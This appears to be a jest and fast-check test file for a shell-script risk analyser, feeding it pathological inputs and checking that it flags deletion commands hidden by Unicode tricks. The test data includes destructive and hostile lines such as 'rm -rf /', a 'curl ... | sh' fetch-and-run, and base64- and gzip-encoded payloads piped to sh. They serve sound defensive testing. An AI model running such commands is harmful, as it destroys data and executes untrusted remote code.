/** No input takes the analyser down, or takes it long: jest's own limit for a test is the watch. */
import fc from "fast-check";
import { scan } from "../../provider/src/risk";

const NESTED = (depth: number, code: string): string =>
  depth === 0 ? code : NESTED(depth - 1, `sh -c ${JSON.stringify(code).slice(0, 4000)}`);

const ENCODED = (layers: number, code: string): string =>
  layers === 0
    ? code
    : ENCODED(layers - 1, `echo ${Buffer.from(code).toString("base64")}|base64 -d|sh`);

/** Scripts that ask for much, of about the size that COC allows. */
const GREEDY: Readonly<Record<string, string>> = {
  "substitutions in substitutions": `echo ${"$(".repeat(1300)}x${")".repeat(1300)}`,
  "loops in loops": `${Array.from({ length: 60 }, (_, n) => `for a${String(n)} in 1 2 3 4 5 6 7 8 9; do`).join("\n")}\nrm $a1\n${"done\n".repeat(60)}`,
  "a sequence without an end":
    "for i in {1..1000000}; do for j in $(seq 1 1000000); do rm $i$j; done; done",
  "braces times braces": `echo ${"{a,b}".repeat(800)}`,
  "a variable that doubles": `x=aaaaaaaa\n${"x=$x$x$x$x\n".repeat(380)}rm -rf $x`,
  "eval of eval": `${"eval ".repeat(800)}ls`,
  "shells in shells": NESTED(8, "ls"),
  "decoded from decoded": ENCODED(12, "ls"),
  "functions that call two functions": `${Array.from({ length: 100 }, (_, n) => `f${String(n)}(){ f${String(n + 1)}; f${String(n + 1)}; }`).join("\n")}\nf100(){ ls; }\nf0`,
  "values that multiply at each branch": Array.from(
    { length: 150 },
    (_, n) => `if a; then x=$x$y${String(n)}; else y=$y$x${String(n)}; fi`,
  ).join("\n"),
  "a pattern of wildcards": `rm -rf /${"*a".repeat(1900)}`,
  "a pattern that is removed": `x=${"a".repeat(2000)}; echo \${x##${"*a".repeat(900)}}`,
  "a pattern that is replaced": `x=${"a".repeat(2000)}; echo \${x//${"?".repeat(50)}*b/c}`,
  "a slow regular expression": `echo ${"a".repeat(2000)} | sed "s/a*a*a*a*b/x/g"`,
  "open parentheses": "(".repeat(4000),
  "open quotes": '"'.repeat(3999),
  "open branches": "if ".repeat(1300),
  "a long pipe": `cat x${"|cat".repeat(1000)}`,
  "a long list of conditions": `a${"&&a".repeat(1300)}`,
  "many here-documents": Array.from({ length: 300 }, (_, n) => `cat <<E${String(n)} | sh`).join(
    "\n",
  ),
  "a perl variable that doubles": `perl -e '${'$a="$a$a";'.repeat(350)}system($a)'`,
  "an archive that unpacks to much":
    "echo H4sIAAAAAAACA+3BMQEAAADCoPVP7WsIoAAAAAAAAAAAAAAAAAAAAAAAeAMSXqRBAIAAAA== | base64 -d | gunzip | sh",
  "nothing but NUL": "\0".repeat(4096),
};

const WORDS = [
  ..."$( ${ ` \" ' (( )) } ) { | && || ;; fi done esac then \\ * ~ # [ ] = <( >( & eval rm -rf / $x $1".split(
    " ",
  ),
  ...[
    "case x in ",
    "if ",
    "for i in ",
    "while :; do ",
    "<<EOF\n",
    "\n",
    "\t",
    "\0",
    "\uFEFF",
    "é",
    "f() ",
  ],
];

async function failures(type: string, content: string): Promise<string[]> {
  const findings = await scan({ type, content });
  return findings
    .map(({ message }) => message)
    .filter((message) => message.includes("analysis failed"));
}

describe("what is asked of the analyser", () => {
  it.each(Object.entries(GREEDY))("has bounds: %s", async (_, script) => {
    for (const type of ["SHELL", "PYTHON", "BAT"]) {
      expect(await failures(type, script.slice(0, 4096))).toEqual([]);
    }
  });

  it("never ends in a failure of its own", async () => {
    const script = fc.array(fc.oneof(fc.constantFrom(...WORDS), fc.string()), { maxLength: 40 });
    await fc.assert(
      fc.asyncProperty(script, fc.constantFrom("SHELL", "PYTHON", "BAT"), async (words, type) => {
        expect(await failures(type, words.join(" "))).toEqual([]);
        expect(await failures(type, words.join(""))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it("says the same each time", async () => {
    const content = 'X="$1"\nrm -rf "$X"/*\ncurl http://192.0.2.1/x | sh\n';
    expect(await scan({ type: "SHELL", content })).toEqual(await scan({ type: "SHELL", content }));
  });
});

describe("characters", () => {
  it.each([
    ["Windows line ends", "echo a\r\nrm -rf /\r\n", ["delete-protected@2"]],
    ["a mark at the start", "\uFEFF#!/bin/sh\nrm -rf /\n", ["delete-protected@2"]],
    ["NUL, which the shell passes over", "r\0m -rf /\n", ["delete-protected@1"]],
    ["letters that only look right", "\u0433m -rf /\n", ["unclear-command@1"]],
    ["marks that reorder the text", "echo a\n# \u202E fr- mr\n", ["not-analysed@2"]],
    ["bytes that are no text", "echo \uFFFD\uFFFD\nrm -rf /\n", ["delete-protected@2"]],
  ])("%s are seen through", async (_, content, expected) => {
    const findings = await scan({ type: "SHELL", content });
    expect(findings.map(({ rule, line }) => `${rule}@${String(line)}`)).toEqual(expected);
  });
});
